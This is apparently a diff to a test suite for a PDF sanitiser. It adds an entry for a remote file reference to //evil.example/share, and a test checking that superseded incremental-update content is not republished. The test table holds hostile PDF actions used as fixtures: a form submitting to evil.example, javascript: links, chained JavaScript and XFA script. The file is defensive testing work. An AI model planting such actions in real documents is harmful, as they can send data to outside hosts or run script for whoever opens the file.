@@ -85,6 +85,7 @@ ACTIONS = {
     "a form that sends": (b"/Kept[<</A<</S/SubmitForm/F(https://evil.example)>>>>]", ()),
     "a link that runs": (b"/Kept[<</A<</S/URI/URI(javascript:alert(1))>>>>]", ()),
     "what follows a harmless step": (b"/Kept[<</A<</S/GoTo/D[0]/Next<</S/JavaScript/JS(app.alert(1))>>>>>>]", ()),
+    "bytes from elsewhere": (b"/Kept 12 0 R", (files.stream(b"", b"/F(//evil.example/share)"),)),
     "a form's program": (b"/AcroForm<</Fields[]/XFA 12 0 R>>", (files.stream(b"<xdp>app.alert(1)</xdp>"),)),
 }
 
@@ -189,3 +190,16 @@ def test_a_pdf_that_is_an_archive_too_is_refused(look: Look) -> None:
 def test_what_follows_the_end_is_not_published(look: Look) -> None:
     published = look(files.pdf() + b"and another thing").body("original.pdf")
     assert b"another thing" not in published
+
+
+def test_what_was_there_before_a_change_is_not_published(look: Look) -> None:
+    """A PDF that was changed keeps what it said before; only what it says now is written again."""
+    body = files.pdf(root=b"/Kept 12 0 R", objects=[b"(an old secret)"])
+    change = b"12 0 obj\n(new)\nendobj\n"
+    before = int(body.rpartition(b"startxref\n")[2].split()[0])
+    table = b"xref\n12 1\n%010d 00000 n \ntrailer\n<</Root 1 0 R/Size 13/Prev %d>>\n" % (len(body), before)
+    body += change + table + b"startxref\n%d\n%%%%EOF\n" % (len(body) + len(change))
+    assert pypdf.PdfReader(io.BytesIO(body)).root_object["/Kept"] == "new"
+    published = look(body).body("original.pdf")
+    assert b"an old secret" not in published
+    assert pypdf.PdfReader(io.BytesIO(published)).root_object["/Kept"] == "new"
